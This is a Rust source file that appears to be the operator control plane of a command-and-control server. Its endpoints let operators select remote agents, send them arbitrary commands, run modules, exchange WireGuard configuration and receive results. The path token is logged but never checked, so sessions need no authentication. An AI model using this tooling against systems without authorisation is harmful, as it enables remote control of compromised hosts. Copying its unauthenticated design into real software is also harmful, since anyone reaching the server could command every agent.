//! Operator control plane.
//!
//! Operators are identified by the `operator_session` header; any request
//! bearing a new session id creates the record. Each session owns its active
//! agent and module selection, so two operators can work different targets.
//! The long-lived `operator-conn` stream carries heartbeats (1 s) and
//! asynchronous events; 60 s of operator silence tears the session down.

use std::collections::HashMap;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use axum::body::Body;
use axum::extract::{Path, State};
use axum::http::{HeaderMap, StatusCode};
use axum::response::{IntoResponse, Response};
use bytes::Bytes;
use dashmap::DashMap;
use futures_util::StreamExt;
use serde::{Deserialize, Serialize};
use tokio::sync::mpsc;
use tokio_stream::wrappers::ReceiverStream;

use super::wireguard::{WgHandshake, WgServer};
use super::Cc;
use crate::modules::ModuleConfig;
use crate::tunnel::send_cmd;
use crate::C2Error;

/// Heartbeat cadence on the operator connection
pub const HEARTBEAT_INTERVAL: Duration = Duration::from_secs(1);

/// Operator silence that closes the session
pub const HEARTBEAT_TIMEOUT: Duration = Duration::from_secs(60);

pub const SESSION_HEADER: &str = "operator_session";

/// Request body shared by all operator endpoints
#[derive(Debug, Default, Deserialize)]
pub struct Operation {
    pub agent_tag: Option<String>,
    pub module_name: Option<String>,
    pub options: Option<HashMap<String, String>>,
    pub command: Option<String>,
    pub command_id: Option<String>,
    pub name: Option<String>,
    pub value: Option<String>,
}

/// Event relayed to connected operators
#[derive(Debug, Clone, Serialize)]
pub struct OperatorEvent {
    pub kind: String,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub agent_tag: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub command: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub output: Option<String>,
}

pub struct OperatorSession {
    pub session_id: String,
    active_agent: Mutex<Option<String>>,
    module: Mutex<Option<ModuleConfig>>,
    events: Mutex<Option<mpsc::Sender<OperatorEvent>>>,
    wg_ip: Mutex<Option<String>>,
}

impl OperatorSession {
    fn new(session_id: String) -> Arc<Self> {
        Arc::new(Self {
            session_id,
            active_agent: Mutex::new(None),
            module: Mutex::new(None),
            events: Mutex::new(None),
            wg_ip: Mutex::new(None),
        })
    }

    pub fn active_agent(&self) -> Option<String> {
        self.active_agent.lock().unwrap().clone()
    }

    pub fn set_active_agent(&self, tag: Option<String>) {
        *self.active_agent.lock().unwrap() = tag;
    }

    pub fn set_module(&self, module: ModuleConfig) {
        *self.module.lock().unwrap() = Some(module);
    }

    pub fn with_module<T>(
        &self,
        f: impl FnOnce(&mut ModuleConfig) -> crate::Result<T>,
    ) -> crate::Result<T> {
        let mut module = self.module.lock().unwrap();
        match module.as_mut() {
            Some(m) => f(m),
            None => Err(C2Error::ModuleUnknown("<none selected>".to_string())),
        }
    }

    pub fn module_snapshot(&self) -> Option<ModuleConfig> {
        self.module.lock().unwrap().clone()
    }

    pub fn set_wg_ip(&self, ip: String) {
        *self.wg_ip.lock().unwrap() = Some(ip);
    }
}

#[derive(Default)]
pub struct OperatorTable {
    map: DashMap<String, Arc<OperatorSession>>,
    wg: Mutex<Option<Arc<WgServer>>>,
}

impl OperatorTable {
    pub fn new() -> Self {
        Self::default()
    }

    /// Fetch-or-create a session record
    pub fn session(&self, id: &str) -> Arc<OperatorSession> {
        self.map
            .entry(id.to_string())
            .or_insert_with(|| OperatorSession::new(id.to_string()))
            .clone()
    }

    pub fn contains(&self, id: &str) -> bool {
        self.map.contains_key(id)
    }

    pub fn remove(&self, id: &str) {
        self.map.remove(id);
    }

    pub fn count(&self) -> usize {
        self.map.len()
    }

    /// WireGuard identity, generated on first use
    pub fn wg_server(&self, listen_port: u16) -> Arc<WgServer> {
        let mut wg = self.wg.lock().unwrap();
        wg.get_or_insert_with(|| Arc::new(WgServer::generate(listen_port)))
            .clone()
    }

    /// Fan a command result out to every connected operator. Slow consumers
    /// drop events rather than stalling the agent tunnel.
    pub fn relay_cmd_result(&self, tag: &str, command: &str, output: &str) {
        let event = OperatorEvent {
            kind: "cmd_result".to_string(),
            agent_tag: Some(tag.to_string()),
            command: Some(command.to_string()),
            output: Some(output.to_string()),
        };
        for entry in self.map.iter() {
            let events = entry.value().events.lock().unwrap();
            if let Some(tx) = events.as_ref() {
                if tx.try_send(event.clone()).is_err() {
                    tracing::warn!("operator {} is lagging, event dropped", entry.key());
                }
            }
        }
    }
}

fn status_of(e: &C2Error) -> StatusCode {
    match e {
        C2Error::AgentUnknown(_) | C2Error::AgentNotConnected(_) => StatusCode::NOT_FOUND,
        C2Error::NoActiveTarget => StatusCode::CONFLICT,
        C2Error::ModuleUnknown(_) | C2Error::OptionUnknown(_) | C2Error::Config(_) => {
            StatusCode::BAD_REQUEST
        }
        _ => StatusCode::INTERNAL_SERVER_ERROR,
    }
}

fn err_response(e: C2Error) -> Response {
    (status_of(&e), e.to_string()).into_response()
}

fn json_response<T: Serialize>(value: &T) -> Response {
    match serde_json::to_vec(value) {
        Ok(body) => (
            StatusCode::OK,
            [("content-type", "application/json")],
            body,
        )
            .into_response(),
        Err(e) => (StatusCode::INTERNAL_SERVER_ERROR, e.to_string()).into_response(),
    }
}

fn session_of(headers: &HeaderMap) -> String {
    headers
        .get(SESSION_HEADER)
        .and_then(|v| v.to_str().ok())
        .unwrap_or("anonymous")
        .to_string()
}

/// `POST /{root}/op/{api}/{token}`
pub async fn operation_dispatcher(
    State(cc): State<Cc>,
    Path((api, token)): Path<(String, String)>,
    headers: HeaderMap,
    body: Body,
) -> Response {
    tracing::debug!("operator request: api={api}, token={token}");
    let session_id = session_of(&headers);
    let session = cc.operators.session(&session_id);

    // the long poll keeps the body; everything else is a JSON operation
    if api == "operator-conn" {
        return handle_operator_conn(cc, session, body).await;
    }

    let bytes = match axum::body::to_bytes(body, 1024 * 1024).await {
        Ok(b) => b,
        Err(e) => return (StatusCode::BAD_REQUEST, e.to_string()).into_response(),
    };
    let op: Operation = if bytes.is_empty() {
        Operation::default()
    } else {
        match serde_json::from_slice(&bytes) {
            Ok(op) => op,
            Err(e) => return (StatusCode::BAD_REQUEST, e.to_string()).into_response(),
        }
    };

    match api.as_str() {
        "set-active-agent" => handle_set_active_agent(&cc, &session, op),
        "send-command" => handle_send_command(&cc, op).await,
        "set-active-module" => handle_set_active_module(&cc, &session, op),
        "module-set-option" => handle_module_set_option(&session, op),
        "module-run" => handle_module_run(&cc, &session).await,
        "list-agents" => json_response(
            &cc.registry
                .list_connected()
                .iter()
                .map(|l| {
                    serde_json::json!({
                        "index": l.index,
                        "label": l.label,
                        "connected": l.connected,
                        "agent": l.agent,
                    })
                })
                .collect::<Vec<_>>(),
        ),
        "wireguard" => handle_wireguard(&cc, &session, &bytes),
        _ => StatusCode::BAD_REQUEST.into_response(),
    }
}

fn handle_set_active_agent(cc: &Cc, session: &Arc<OperatorSession>, op: Operation) -> Response {
    let Some(tag) = op.agent_tag else {
        return (StatusCode::BAD_REQUEST, "agent_tag is required").into_response();
    };
    match cc.registry.get_by_tag(&tag) {
        Some(agent) => {
            session.set_active_agent(Some(tag));
            json_response(&agent)
        }
        None => err_response(C2Error::AgentUnknown(tag)),
    }
}

async fn handle_send_command(cc: &Cc, op: Operation) -> Response {
    let (Some(tag), Some(command), Some(command_id)) = (op.agent_tag, op.command, op.command_id)
    else {
        return (StatusCode::BAD_REQUEST, "command or command_id is empty").into_response();
    };
    if cc.registry.get_by_tag(&tag).is_none() {
        return err_response(C2Error::AgentUnknown(tag));
    }
    match send_cmd(cc, &command, &command_id, &tag).await {
        Ok(_) => StatusCode::OK.into_response(),
        Err(e) => err_response(e),
    }
}

fn handle_set_active_module(cc: &Cc, session: &Arc<OperatorSession>, op: Operation) -> Response {
    let Some(name) = op.module_name else {
        return (StatusCode::BAD_REQUEST, "module_name is required").into_response();
    };
    // previous options are erased wholesale
    match ModuleConfig::defaults(&name, &cc.config) {
        Ok(mut module) => {
            if let Some(options) = op.options {
                for (key, value) in options {
                    if let Err(e) = module.set_option(&key, &value) {
                        return err_response(e);
                    }
                }
            }
            let options = module.options();
            session.set_module(module);
            json_response(&options)
        }
        Err(e) => err_response(e),
    }
}

fn handle_module_set_option(session: &Arc<OperatorSession>, op: Operation) -> Response {
    let (Some(name), Some(value)) = (op.name, op.value) else {
        return (StatusCode::BAD_REQUEST, "name and value are required").into_response();
    };
    match session.with_module(|m| m.set_option(&name, &value)) {
        Ok(()) => StatusCode::OK.into_response(),
        Err(e) => err_response(e),
    }
}

async fn handle_module_run(cc: &Cc, session: &Arc<OperatorSession>) -> Response {
    let Some(module) = session.module_snapshot() else {
        return err_response(C2Error::ModuleUnknown("<none selected>".to_string()));
    };
    let active = session.active_agent();
    match crate::modules::run_module(cc, &module, active.as_deref()).await {
        Ok(summary) => json_response(&serde_json::json!({ "result": summary })),
        Err(e) => err_response(e),
    }
}

fn handle_wireguard(cc: &Cc, session: &Arc<OperatorSession>, bytes: &[u8]) -> Response {
    let handshake: WgHandshake = match serde_json::from_slice(bytes) {
        Ok(h) => h,
        Err(e) => return (StatusCode::BAD_REQUEST, e.to_string()).into_response(),
    };
    tracing::info!(
        "operator {} exchanging wireguard config, peer ip {}",
        session.session_id,
        handshake.ip_address
    );
    session.set_wg_ip(handshake.ip_address.clone());

    let wg = cc.operators.wg_server(cc.config.wg_port);
    let reply = wg.handshake_reply(&cc.config.cc_host);
    tracing::debug!("wireguard device config:\n{}", wg.device_config(&[handshake]));
    json_response(&reply)
}

/// Long-lived relay connection: server heartbeats every second and forwards
/// events; operator heartbeats (any body bytes) keep the session alive.
async fn handle_operator_conn(cc: Cc, session: Arc<OperatorSession>, body: Body) -> Response {
    tracing::info!("operator {} connected to the event tunnel", session.session_id);

    let (event_tx, mut event_rx) = mpsc::channel::<OperatorEvent>(64);
    *session.events.lock().unwrap() = Some(event_tx);

    let (frame_tx, frame_rx) = mpsc::channel::<std::result::Result<Bytes, std::io::Error>>(64);

    let session_id = session.session_id.clone();
    tokio::spawn(async move {
        let mut inbound = body.into_data_stream();
        let mut ticker = tokio::time::interval(HEARTBEAT_INTERVAL);
        let mut deadline = tokio::time::Instant::now() + HEARTBEAT_TIMEOUT;

        // frames are dropped rather than awaited when the operator stalls,
        // so the silence deadline always gets its turn
        let push_frame = |event: &OperatorEvent| -> bool {
            let mut frame = serde_json::to_vec(event).unwrap_or_default();
            frame.push(b'\n');
            !matches!(
                frame_tx.try_send(Ok(frame.into())),
                Err(mpsc::error::TrySendError::Closed(_))
            )
        };

        loop {
            tokio::select! {
                _ = ticker.tick() => {
                    let beat = OperatorEvent {
                        kind: "heartbeat".to_string(),
                        agent_tag: None,
                        command: None,
                        output: None,
                    };
                    if !push_frame(&beat) {
                        break;
                    }
                }
                chunk = inbound.next() => match chunk {
                    // any traffic from the operator counts as a heartbeat
                    Some(Ok(_)) => deadline = tokio::time::Instant::now() + HEARTBEAT_TIMEOUT,
                    Some(Err(_)) | None => break,
                },
                event = event_rx.recv() => match event {
                    Some(event) => {
                        if !push_frame(&event) {
                            break;
                        }
                    }
                    None => break,
                },
                _ = tokio::time::sleep_until(deadline) => {
                    tracing::warn!("operator {session_id} heartbeat timeout, closing connection");
                    break;
                }
                _ = cc.cancel.cancelled() => break,
            }
        }
        cc.operators.remove(&session_id);
        tracing::debug!("operator {session_id} session removed");
    });

    Response::builder()
        .status(StatusCode::OK)
        .header("content-type", "application/json")
        .body(Body::from_stream(ReceiverStream::new(frame_rx)))
        .unwrap_or_else(|_| StatusCode::INTERNAL_SERVER_ERROR.into_response())
}
